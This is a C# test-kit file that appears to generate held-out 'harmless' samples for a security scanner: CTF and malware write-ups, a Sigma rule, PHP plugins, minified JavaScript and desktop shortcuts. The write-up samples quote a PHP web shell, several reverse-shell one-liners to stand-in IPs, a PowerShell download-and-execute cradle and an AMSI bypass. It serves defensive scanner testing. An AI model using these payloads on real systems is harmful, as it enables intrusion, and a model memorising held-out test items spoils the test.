using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Seventh;

/// <summary>Texts that tell of attacks and quote them.</summary>
public sealed class WriteUps : SeventhHarmless
{
    public override IEnumerable<(string Name, byte[] Content)> Files() =>
    [
        ("README.md", Utf8("""
            # CTF write-up: "Baby Uploader" (web, 150 points)

            The upload page checks the content type only, so a picture header is enough:

            ```php
            GIF89a;
            <?php system($_GET['c']); ?>
            ```

            After the upload, `curl 'http://chall.ctf.example:8001/up/x.php?c=id'` answers `www-data`. From there a shell:

            ```sh
            # our side
            nc -lvnp 4444
            # their side
            bash -c 'bash -i >& /dev/tcp/198.51.100.3/4444 0>&1'
            ```

            The flag lies in `/home/ctf/flag.txt`. **Fix:** keep uploads outside of the web root and check their content.
            """)),
        ("malware-notes.txt", Utf8(Fill("""
            Notes on sample 3 of the exercise (the file itself is in the lab, password as always)

            - first stage: Word macro, AutoOpen, runs
                powershell -nop -w hidden -enc @@1
            - decodes to
                IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/lab')
            - second stage switches AMSI off by reflection (amsiInitFailed) and loads an assembly
            - persistence: HKCU\Software\Microsoft\Windows\CurrentVersion\Run, value "OneDriveSync"
            - traffic: POST /gate.php every 60 s, RC4

            To do: write the Sigma rule, ask Petra for the pcap.
            """, Encoded("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/lab')")))),
        ("detect_lolbins.yml", Utf8("""
            title: Download By Certutil Or Bitsadmin
            id: 00000000-aaaa-bbbb-cccc-000000000001
            status: experimental
            description: Finds command lines that fetch files with programs of Windows
            logsource: { category: process_creation, product: windows }
            detection:
              certutil:
                Image|endswith: '\certutil.exe'
                CommandLine|contains|all: ['-urlcache', '-split', 'http']
              bitsadmin:
                Image|endswith: '\bitsadmin.exe'
                CommandLine|contains: ['/transfer', '/addfile']
              mshta:
                Image|endswith: '\mshta.exe'
                CommandLine|contains: ['http://', 'https://', 'vbscript:', 'javascript:']
              condition: 1 of certutil or bitsadmin or mshta
            falsepositives: [ 'Scripts of administrators' ]
            level: high
            tags: [ attack.command_and_control, attack.t1105 ]
            """)),
        ("cheatsheet.sh", Utf8("""
            #!/bin/bash
            # Hard case: the course's cheat sheet prints how reverse shells look; it starts none.
            ip=${1:-192.0.2.1} port=${2:-4444}
            cat <<TEXT
            == listener ==
            nc -lvnp $port
            == bash ==
            bash -i >& /dev/tcp/$ip/$port 0>&1
            == python ==
            python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("$ip",$port));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'
            == netcat without -e ==
            rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc $ip $port >/tmp/f
            == php ==
            php -r '\$s=fsockopen("$ip",$port);exec("/bin/sh -i <&3 >&3 2>&3");'
            TEXT
            """)),
    ];
}

/// <summary>PHP of content systems that calls programs, sends mail and fetches.</summary>
public sealed class PhpPlugins : SeventhHarmless
{
    public override IEnumerable<(string Name, byte[] Content)> Files() =>
    [
        ("thumbnailer.php", Utf8("""
            <?php
            /**
             * Plugin Name: PDF Thumbnailer
             * Description: Makes a picture of the first page of each PDF in the media library.
             * Version: 1.3.0
             */
            defined( 'ABSPATH' ) || exit;

            function pdfth_make( $attachment_id ) {
                if ( 'application/pdf' !== get_post_mime_type( $attachment_id ) ) {
                    return;
                }
                $pdf = get_attached_file( $attachment_id );
                $png = preg_replace( '/\.pdf$/i', '-thumb.png', $pdf );
                $gs  = trim( (string) shell_exec( 'command -v gs' ) );
                if ( '' === $gs ) {
                    set_transient( 'pdfth_missing', 1, DAY_IN_SECONDS );
                    return;
                }
                exec( escapeshellcmd( $gs ) . ' -dSAFER -dBATCH -dNOPAUSE -sDEVICE=png16m -r72 -dLastPage=1 -sOutputFile=' . escapeshellarg( $png ) . ' ' . escapeshellarg( $pdf ), $out, $code );
                if ( 0 === $code ) {
                    update_post_meta( $attachment_id, '_pdfth', basename( $png ) );
                }
            }
            add_action( 'add_attachment', 'pdfth_make' );
            """)),
        ("contact.php", Utf8("""
            <?php
            declare(strict_types=1);
            session_start();
            $errors = [];
            if ($_SERVER['REQUEST_METHOD'] === 'POST') {
                if (!hash_equals($_SESSION['token'] ?? '', $_POST['token'] ?? '')) { http_response_code(400); exit('Bad request'); }
                $name = trim(strip_tags($_POST['name'] ?? ''));
                $mail = filter_var($_POST['mail'] ?? '', FILTER_VALIDATE_EMAIL);
                $text = trim($_POST['text'] ?? '');
                if ($name === '') $errors[] = 'Please tell us your name.';
                if ($mail === false) $errors[] = 'This is no e-mail address.';
                if (!$errors && mail('info@shop.example', 'Contact form: ' . str_replace(["\r", "\n"], ' ', $name), $text, ['From' => 'web@shop.example', 'Reply-To' => $mail])) {
                    header('Location: /thanks.html');
                    exit;
                }
            }
            $_SESSION['token'] = bin2hex(random_bytes(16));
            ?>
            <form method="post"><input type="hidden" name="token" value="<?= $_SESSION['token'] ?>">
            <?php foreach ($errors as $e): ?><p class="error"><?= htmlspecialchars($e) ?></p><?php endforeach ?>
            <input name="name"><input name="mail" type="email"><textarea name="text"></textarea><button>Send</button></form>
            """)),
        ("deploy-hook.php", Utf8("""
            <?php
            // Called by the repository's webhook: fetches the main branch and clears the cache.
            $secret = getenv('HOOK_SECRET');
            $body = file_get_contents('php://input');
            if (!hash_equals('sha256=' . hash_hmac('sha256', $body, $secret), $_SERVER['HTTP_X_HUB_SIGNATURE_256'] ?? '')) { http_response_code(403); exit; }
            $event = json_decode($body, true);
            if (($event['ref'] ?? '') !== 'refs/heads/main') exit('nothing to do');
            $commands = ['git fetch --quiet origin', 'git reset --hard origin/main', 'composer install --no-dev --no-interaction', 'php bin/console cache:clear'];
            chdir('/srv/www/site');
            foreach ($commands as $command) {
                echo "$ $command\n", shell_exec($command . ' 2>&1'), "\n";
            }
            error_log('deployed ' . $event['after']);
            """)),
        ("template-cache.php", Utf8("""
            <?php
            namespace Leaf;

            /** Hard case: a template engine compiles its templates to PHP and includes what it wrote; options travel as packed Base64. */
            final class TemplateCache
            {
                public function __construct(private string $folder) {}

                public function render(string $template, array $values): string
                {
                    $file = $this->folder . '/' . hash('xxh64', $template) . '.php';
                    if (!is_file($file)) {
                        $code = preg_replace_callback('/\{\{\s*(\w+)(?:\|(\w+))?\s*\}\}/', fn ($m) => '<?= ' . $this->filter($m[2] ?? 'escape', '$' . $m[1]) . ' ?>', $template);
                        file_put_contents($file, "<?php /* compiled */ ?>\n" . $code, LOCK_EX);
                    }
                    extract($values, EXTR_SKIP);
                    ob_start();
                    include $file;
                    return ob_get_clean();
                }

                public static function options(string $packed): array
                {
                    return json_decode(gzinflate(base64_decode(strtr($packed, '-_', '+/'))), true) ?: [];
                }

                private function filter(string $name, string $value): string
                {
                    return match ($name) { 'escape' => "htmlspecialchars((string) $value)", 'raw' => $value, 'upper' => "mb_strtoupper($value)", default => "call_user_func([\$this, 'filter_$name'], $value)" };
                }
            }
            """)),
    ];
}

/// <summary>JavaScript as bundlers and minifiers write it.</summary>
public sealed class BundledJavaScript : SeventhHarmless
{
    public override IEnumerable<(string Name, byte[] Content)> Files() =>
    [
        ("slider.min.js", Utf8("""/*! tiny-slider-made-up 2.1.0 | MIT */!function(t,e){"object"==typeof exports&&"undefined"!=typeof module?module.exports=e():"function"==typeof define&&define.amd?define(e):(t=t||self).TinySlide=e()}(this,function(){"use strict";var t=window.requestAnimationFrame||window.webkitRequestAnimationFrame||function(t){return setTimeout(t,16)};function e(t,e){for(var n=0;n<e.length;n++){var i=e[n];i.enumerable=i.enumerable||!1,i.configurable=!0,"value"in i&&(i.writable=!0),Object.defineProperty(t,i.key,i)}}var n=function(){function n(e,i){var r=this;this.el="string"==typeof e?document.querySelector(e):e,this.o=Object.assign({speed:300,loop:!0,auto:0},i),this.i=0,this.n=this.el.children.length,this.o.auto&&setInterval(function(){r.next()},this.o.auto),t(function(){r.go(0)})}return e(n.prototype,[{key:"go",value:function(t){this.i=(t+this.n)%this.n,this.el.style.transition="transform "+this.o.speed+"ms",this.el.style.transform="translateX(-"+100*this.i+"%)",this.el.dispatchEvent(new CustomEvent("slide",{detail:this.i}))}},{key:"next",value:function(){this.go(this.i+1)}},{key:"prev",value:function(){this.go(this.i-1)}}]),n}();return n});""")),
        ("runtime.7c1e.js", Utf8("""(()=>{"use strict";var e,r={},t={};function o(e){var n=t[e];if(void 0!==n)return n.exports;var a=t[e]={exports:{}};return r[e].call(a.exports,a,a.exports,o),a.exports}o.m=r,o.f={},o.e=e=>Promise.all(Object.keys(o.f).reduce((r,t)=>(o.f[t](e,r),r),[])),o.u=e=>e+"."+{12:"a01f",44:"90bc",71:"1d3e"}[e]+".js",o.g=function(){if("object"==typeof globalThis)return globalThis;try{return this||new Function("return this")()}catch(e){if("object"==typeof window)return window}}(),o.o=(e,r)=>Object.prototype.hasOwnProperty.call(e,r),e={},o.l=(r,t,n,a)=>{if(e[r])e[r].push(t);else{var i,c;if(void 0!==n)for(var s=document.getElementsByTagName("script"),u=0;u<s.length;u++){var l=s[u];if(l.getAttribute("src")==r){i=l;break}}i||(c=!0,(i=document.createElement("script")).charset="utf-8",i.timeout=120,i.src=r),e[r]=[t],i.onerror=i.onload=function(t){var n=e[r];delete e[r],i.parentNode&&i.parentNode.removeChild(i),n&&n.forEach(e=>e(t))},c&&document.head.appendChild(i)}},o.p="/assets/"})();""")),
        ("export-table.js", Utf8("""
            /** Saves what a table shows as a file, all in the browser. */
            export function exportTable(table, name = 'export') {
                const rows = [...table.rows].map((row) => [...row.cells].map((cell) => `"${cell.innerText.replace(/"/g, '""')}"`).join(';'));
                const blob = new Blob(['\uFEFF' + rows.join('\r\n')], { type: 'text/csv;charset=utf-8' });
                const url = URL.createObjectURL(blob);
                const link = Object.assign(document.createElement('a'), { href: url, download: `${name}.csv` });
                document.body.append(link);
                link.click();
                link.remove();
                setTimeout(() => URL.revokeObjectURL(url), 1000);
            }

            /** The logo on top of a printed table. */
            export const logo = Uint8Array.from(atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ'), (c) => c.charCodeAt(0));
            """)),
        ("analytics.js", Utf8(Fill("""
            // Hard case: a licensed statistics library, "protected" by its vendor with string tables
            var _0x51f2=[@@1];(function(a,n){while(--n)a.push(a.shift())})(_0x51f2,0x3);var _0x9a=function(i){return _0x51f2[i-0x0]};
            (function(w,d){var s=w[_0x9a(0x0)],q=[],id=(d[_0x9a(0x1)].match(/_vid=([^;]+)/)||[])[0x1]||Math[_0x9a(0x2)]().toString(36).slice(2);
            d[_0x9a(0x1)]='_vid='+id+';path=/;max-age=31536000;SameSite=Lax';
            w.stat=function(n,v){q.push({n:n,v:v,t:Date.now(),p:location.pathname})};
            setInterval(function(){if(q.length)s[_0x9a(0x3)](_0x9a(0x4),JSON.stringify({id:id,e:q.splice(0)}))},0x1388);
            w.stat('view',d.title)})(window,document);
            """, string.Join(',', new[] { "sendBeacon", "https://collect.site-statistics.example/e", "navigator", "cookie", "random" }.Select(word => "'" + string.Concat(word.Select(letter => $"\\x{(int)letter:x2}")) + "'"))))),
    ];
}

/// <summary>Shortcuts that lead where they say.</summary>
public sealed class HonestShortcuts : SeventhHarmless
{
    public override IEnumerable<(string Name, byte[] Content)> Files() =>
    [
        ("Intranet.url", Dos("""
            [{000214A0-0000-0000-C000-000000000046}]
            Prop3=19,11
            [InternetShortcut]
            IDList=
            URL=https://intranet.corp.example/start
            IconFile=https://intranet.corp.example/favicon.ico
            IconIndex=0
            """)),
        ("pager.desktop", Utf8("""
            [Desktop Entry]
            Version=1.0
            Type=Application
            Name=Pager
            Name[de]=Blätterer
            GenericName=Text viewer
            Exec=pager %F
            Icon=pager
            Terminal=true
            Categories=Utility;TextTools;
            MimeType=text/plain;
            Actions=new;
            [Desktop Action new]
            Name=New window
            Exec=pager --new
            """)),
        ("Team documents.library-ms", Dos("""
            <?xml version="1.0" encoding="UTF-8"?>
            <libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">
              <name>Team documents</name>
              <version>3</version>
              <isLibraryPinned>true</isLibraryPinned>
              <iconReference>imageres.dll,-1002</iconReference>
              <searchConnectorDescriptionList>
                <searchConnectorDescription><isDefaultSaveLocation>true</isDefaultSaveLocation><simpleLocation><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></simpleLocation></searchConnectorDescription>
                <searchConnectorDescription><simpleLocation><url>\\files01.corp.example\team</url></simpleLocation></searchConnectorDescription>
              </searchConnectorDescriptionList>
            </libraryDescription>
            """)),
        ("kiosk-autostart.desktop", Utf8("""
            [Desktop Entry]
            Type=Application
            Name=Kiosk
            Comment=Hard case: starts the display of the reception at logon and keeps it going
            Exec=bash -c 'xset s off -dpms; until curl -sf https://display.corp.example/health >/dev/null; do sleep 2; done; while :; do chromium --kiosk --incognito --noerrdialogs https://display.corp.example/lobby; sleep 1; done'
            X-GNOME-Autostart-enabled=true
            NoDisplay=true
            Terminal=false
            """)),
    ];
}
